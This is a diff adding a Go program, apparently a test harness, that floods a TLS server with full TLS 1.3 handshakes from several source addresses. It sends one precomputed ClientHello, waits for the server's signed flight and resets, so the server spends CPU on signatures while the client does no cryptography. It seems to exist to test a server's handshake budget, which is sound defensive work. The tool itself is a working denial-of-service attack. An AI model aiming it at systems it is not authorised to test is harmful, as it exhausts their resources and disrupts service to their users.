@@ -1,0 +1,139 @@
+// flood: full TLS handshakes as fast as the server answers them, from several source addresses
+// at once, for scripts/handshake-flood.sh.
+//
+// The cheapest flood there is, and the one a budget must stop: each loop connects (bound to
+// its source address), sends one fixed TLS 1.3 ClientHello (built once: SNI, X25519 with a key
+// share computed once, no session to resume), reads until the server's encrypted first flight
+// arrives — ServerHello, then application-data records carrying the certificate and the
+// CertificateVerify, so the server has signed — and resets the connection. The client does no
+// cryptography per connection, so one core of clients keeps a server core signing.
+//
+// Prints one JSON line: flights received (signatures the server spent), handshakes refused with
+// an alert, connections closed or failed otherwise, and the seconds it ran.
+package main
+
+import (
+	"crypto/ecdh"
+	"crypto/rand"
+	"encoding/binary"
+	"flag"
+	"fmt"
+	"io"
+	"net"
+	"strings"
+	"sync"
+	"sync/atomic"
+	"time"
+)
+
+func ext(out []byte, kind uint16, body []byte) []byte {
+	out = binary.BigEndian.AppendUint16(out, kind)
+	out = binary.BigEndian.AppendUint16(out, uint16(len(body)))
+	return append(out, body...)
+}
+
+// clientHello is a TLS 1.3 ClientHello record for `sni` offering X25519 only.
+func clientHello(sni string) []byte {
+	key, err := ecdh.X25519().GenerateKey(rand.Reader)
+	if err != nil {
+		panic(err)
+	}
+	name := []byte(sni)
+	sniBody := binary.BigEndian.AppendUint16(nil, uint16(len(name)+3))
+	sniBody = append(sniBody, 0)
+	sniBody = binary.BigEndian.AppendUint16(sniBody, uint16(len(name)))
+	sniBody = append(sniBody, name...)
+	share := []byte{0x00, 0x24, 0x00, 0x1d, 0x00, 0x20}
+	share = append(share, key.PublicKey().Bytes()...)
+	var exts []byte
+	exts = ext(exts, 0x0000, sniBody)
+	exts = ext(exts, 0x002b, []byte{0x02, 0x03, 0x04})
+	exts = ext(exts, 0x000a, []byte{0x00, 0x02, 0x00, 0x1d})
+	exts = ext(exts, 0x0033, share)
+	exts = ext(exts, 0x000d, []byte{0x00, 0x06, 0x08, 0x04, 0x04, 0x03, 0x04, 0x01})
+	exts = ext(exts, 0x002d, []byte{0x01, 0x01})
+	body := []byte{0x03, 0x03}
+	random := make([]byte, 32)
+	_, _ = rand.Read(random)
+	body = append(body, random...)
+	body = append(body, 32)
+	body = append(body, random...) // a compatibility session ID, as every TLS 1.3 client sends
+	body = append(body, 0x00, 0x06, 0x13, 0x01, 0x13, 0x02, 0x13, 0x03, 0x01, 0x00)
+	body = binary.BigEndian.AppendUint16(body, uint16(len(exts)))
+	body = append(body, exts...)
+	msg := []byte{0x01, 0x00}
+	msg = binary.BigEndian.AppendUint16(msg, uint16(len(body)))
+	msg = append(msg, body...)
+	record := []byte{0x16, 0x03, 0x01}
+	record = binary.BigEndian.AppendUint16(record, uint16(len(msg)))
+	return append(record, msg...)
+}
+
+type outcome int
+
+const (
+	signed outcome = iota
+	refused
+	failed
+)
+
+// once sends the hello on `c` and reads records until the encrypted flight or an alert.
+func once(c net.Conn, hello []byte) outcome {
+	if _, err := c.Write(hello); err != nil {
+		return failed
+	}
+	header := make([]byte, 5)
+	for {
+		if _, err := io.ReadFull(c, header); err != nil {
+			return failed
+		}
+		switch header[0] {
+		case 0x15:
+			return refused
+		case 0x17:
+			return signed
+		}
+		if _, err := io.CopyN(io.Discard, c, int64(binary.BigEndian.Uint16(header[3:]))); err != nil {
+			return failed
+		}
+	}
+}
+
+func main() {
+	target := flag.String("target", "127.0.0.1:443", "host:port to flood")
+	sources := flag.String("sources", "127.0.0.2", "comma-separated source addresses")
+	conns := flag.Int("conns", 4, "concurrent handshake loops per source")
+	duration := flag.Duration("duration", 10*time.Second, "how long to flood")
+	sni := flag.String("sni", "localhost", "server name sent")
+	flag.Parse()
+
+	hello := clientHello(*sni)
+	var counts [3]atomic.Int64
+	start := time.Now()
+	deadline := start.Add(*duration)
+	var wg sync.WaitGroup
+	for _, src := range strings.Split(*sources, ",") {
+		dialer := net.Dialer{LocalAddr: &net.TCPAddr{IP: net.ParseIP(strings.TrimSpace(src))}, Timeout: 5 * time.Second}
+		for i := 0; i < *conns; i++ {
+			wg.Add(1)
+			go func() {
+				defer wg.Done()
+				for time.Now().Before(deadline) {
+					c, err := dialer.Dial("tcp", *target)
+					if err != nil {
+						counts[failed].Add(1)
+						time.Sleep(10 * time.Millisecond)
+						continue
+					}
+					_ = c.SetDeadline(time.Now().Add(5 * time.Second))
+					counts[once(c, hello)].Add(1)
+					_ = c.(*net.TCPConn).SetLinger(0)
+					_ = c.Close()
+				}
+			}()
+		}
+	}
+	wg.Wait()
+	fmt.Printf("{\"done\":%d,\"refused\":%d,\"other\":%d,\"seconds\":%.3f}\n",
+		counts[signed].Load(), counts[refused].Load(), counts[failed].Load(), time.Since(start).Seconds())
+}
